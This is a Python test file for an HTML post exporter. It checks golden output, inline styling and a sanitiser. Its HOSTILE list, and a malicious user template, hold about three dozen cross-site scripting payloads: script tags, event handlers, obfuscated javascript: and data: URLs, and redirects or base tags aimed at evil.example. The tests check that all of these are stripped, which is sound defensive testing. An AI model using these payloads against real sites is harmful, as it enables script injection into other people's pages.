"""HTML posts: golden files, inline styling, and nothing hostile getting through."""

import datetime as dt
import re
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from recap.domain.records import EventRecord, LinkRecord, QARecord, SessionRecord
from recap.export import views
from recap.export.html_style import sanitise_post
from recap.export.markdown_html import render_markdown
from recap.export.posts import HTML_CHARSET_LINE, ExportOptions, render_post
from recap.export.templates import user_templates_dir
from recap.storage.library import Library
from tests.unit.test_export_markdown import golden

HTML = ExportOptions(format="html")
SAFE_SCHEMES = {"http", "https", "mailto"}
FORBIDDEN_TAGS = {
    "script", "style", "iframe", "frame", "frameset", "object", "embed", "svg", "math",
    "form", "input", "button", "textarea", "select", "base", "link", "meta", "noscript",
    "template", "applet", "audio", "video", "source", "details", "marquee", "body", "html",
}  # fmt: skip


class _Collector(HTMLParser):
    """Every start tag of a fragment with its attributes, entities decoded."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {name: value or "" for name, value in attrs}))


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    collector = _Collector()
    collector.feed(html)
    collector.close()
    return collector.tags


def post_body(html: str) -> str:
    assert html.startswith(HTML_CHARSET_LINE)
    return html[len(HTML_CHARSET_LINE) :]


def assert_harmless(html: str) -> None:
    body = post_body(html)
    assert not re.search(r"<\s*/?\s*(script|iframe|svg|style|object|embed)", body, re.I)
    for tag, attributes in elements(body):
        assert tag not in FORBIDDEN_TAGS, tag
        for name, value in attributes.items():
            assert not name.startswith("on"), (tag, name)
            assert name in {"style", "href", "src", "alt", "title", "align", "rel"}, (tag, name)
            if name in {"href", "src"}:
                squeezed = re.sub(r"[\x00-\x20]", "", value).lower()
                scheme = urlsplit(squeezed).scheme
                assert scheme in SAFE_SCHEMES or scheme == "", (tag, value)
                assert not squeezed.startswith(("javascript:", "vbscript:", "data:")), value
            if name == "style":
                lowered = value.lower()
                assert "url(" not in lowered and "expression" not in lowered, value
                assert "javascript" not in lowered and "position" not in lowered, value


def sample_events(library: Library) -> list[EventRecord]:
    return list(library.events())


# -- golden files and looks ----------------------------------------------------------


@pytest.mark.parametrize("language", ["ko", "en"])
def test_sample_posts_match_golden_files(sample_library: Library, language: str) -> None:
    options = ExportOptions(format="html", language=language)  # type: ignore[arg-type]
    for record in sample_events(sample_library):
        html = render_post(record, options)
        assert_harmless(html)
        golden(f"{record.start_date}.{language}.html", html)


def test_every_element_is_styled_inline_and_nothing_needs_a_stylesheet(
    sample_library: Library,
) -> None:
    html = render_post(sample_events(sample_library)[0], HTML)
    body = post_body(html)

    assert "<link" not in body and "<style" not in body and "class=" not in body
    unstyled = {
        tag
        for tag, attributes in elements(body)
        if "style" not in attributes and tag not in {"strong", "em", "thead", "tbody", "tr"}
    }
    assert unstyled <= {"section", "footer", "div", "span"}, unstyled
    assert "font-family:" in body.split(">", 1)[0]  # the outer element sets the font


def test_code_blocks_are_coloured_inline() -> None:
    talk = SessionRecord(title="코드", notes="```python\ndef f():\n    return 1  # 주석\n```")
    body = post_body(render_post(EventRecord("e", dt.date(2024, 1, 1), sessions=[talk]), HTML))

    assert '<span style="color:#007020;font-weight:bold">def</span>' in body
    assert "# 주석" in body
    assert "class=" not in body


def test_headings_in_notes_sit_below_the_session_heading() -> None:
    talk = SessionRecord(title="발표", notes="# 큰 제목\n\n## 요점")
    body = post_body(render_post(EventRecord("e", dt.date(2024, 1, 1), sessions=[talk]), HTML))

    assert re.search(r"<h2[^>]*>&lt;발표&gt;</h2>", body)
    assert re.search(r"<h3[^>]*>큰 제목</h3>", body)
    assert re.search(r"<h4[^>]*>요점</h4>", body)


def test_qa_and_open_questions_are_marked(sample_library: Library) -> None:
    body = post_body(render_post(sample_events(sample_library)[0], HTML))

    assert ">Q&amp;A</span>" in body
    assert ">내 질문</span>" in body
    assert ">미해결</span>" in body
    assert "→ 재생 중인 구간은 잠겨 있어서 지워지지 않는다." in body


# -- hostile input -------------------------------------------------------------------

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="x" ONERROR="alert(1)">',
    "<svg onload=alert(1)><circle r=5></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="https://evil.example"></iframe>',
    "<style>body { display: none }</style>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">entity</a>',
    '<a href="&#x6A;&#x61;vascript&#58;alert(1)">hex entity</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href=" javascript:alert(1)">space</a>',
    "[md link](javascript:alert(1))",
    "[md entity](&#106;avascript:alert(1))",
    "<javascript:alert(1)>",
    '<a href="vbscript:msgbox(1)">vb</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">data</a>',
    '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "![img](data:image/png;base64,AAAA)",
    '<div style="background:url(javascript:alert(1))">bg</div>',
    '<p style="position:fixed;top:0">overlay</p>',
    '<object data="https://evil.example/x.swf"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<form action="https://evil.example"><input name=p autofocus onfocus=alert(1)></form>',
    "<details open ontoggle=alert(1)>x</details>",
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<!--><script>alert(1)</script>-->",
    '"><script>alert(1)</script>',
    "<body onload=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
]


def hostile_event(payload: str) -> EventRecord:
    """The payload in every field a post shows."""
    return EventRecord(
        title=payload,
        start_date=dt.date(2024, 4, 13),
        venue=payload,
        host=payload,
        url=payload,
        found_via=payload,
        category=payload,
        tags=[payload],
        summary=payload,
        sessions=[
            SessionRecord(
                title=payload,
                speaker=payload,
                affiliation=payload,
                impression=payload,
                notes=f"{payload}\n\n- {payload}\n\n> {payload}",
                links=[LinkRecord(url=payload, label=payload), LinkRecord(url=payload)],
                qa=[
                    QARecord(kind="audience", question=payload, answer=payload),
                    QARecord(kind="own", question=payload, resolved=False),
                ],
            )
        ],
    )


def test_there_are_enough_hostile_inputs() -> None:
    assert len(HOSTILE) >= 15


@pytest.mark.parametrize("language", ["ko", "en"])
@pytest.mark.parametrize("payload", HOSTILE)
def test_nothing_hostile_survives_in_any_field(payload: str, language: str) -> None:
    options = ExportOptions(format="html", language=language)  # type: ignore[arg-type]
    assert_harmless(render_post(hostile_event(payload), options))


@pytest.mark.parametrize(
    "url", ["javascript:alert(1)", " JAVASCRIPT:alert(1)", "data:text/html,x", "vbscript:x"]
)
def test_unsafe_addresses_are_not_linked(url: str) -> None:
    """The event page is shown as text; a talk's link that runs code is left out."""
    talk = SessionRecord(title="t", links=[LinkRecord(url=url, label="슬라이드")])
    record = EventRecord("e", dt.date(2024, 1, 1), url=url, sessions=[talk])
    html = render_post(record, HTML)

    assert_harmless(html)
    assert "<a " not in html
    assert "슬라이드" not in html
    assert url.strip().split(":")[1] in html  # the event page, as text


def test_a_user_template_is_sanitised_too() -> None:
    folder = user_templates_dir()
    folder.mkdir(parents=True)
    (folder / "post.html.j2").write_text(
        '<h1 onclick="x()">{{ event.title }}</h1><script>alert(1)</script>'
        '<a href="javascript:alert(1)">x</a><iframe src="https://e.example"></iframe>',
        encoding="utf-8",
    )
    html = render_post(EventRecord("<b>제목</b>", dt.date(2024, 1, 1)), HTML)

    assert_harmless(html)
    assert "&lt;b&gt;제목&lt;/b&gt;" in html  # autoescaped


# -- the shortcut for plain one-line texts -----------------------------------------------

plain_characters = st.sampled_from(list("aZ09 가나다 \"'()$%^{}/;?.,@\u00a0\u3000"))
plain_characters |= st.characters(codec="utf-8", exclude_categories=["Cs"])


@settings(database=None, max_examples=300, deadline=None)
@given(
    st.text(plain_characters, min_size=1, max_size=30).filter(
        lambda text: text.strip() and not views._MARKDOWN_SYNTAX.search(text)
    )
)
def test_plain_text_skips_markdown_with_the_same_result(text: str) -> None:
    rendered = sanitise_post(render_markdown(text))
    assert sanitise_post(f"<p>{views.inline_html(text)}</p>") == rendered
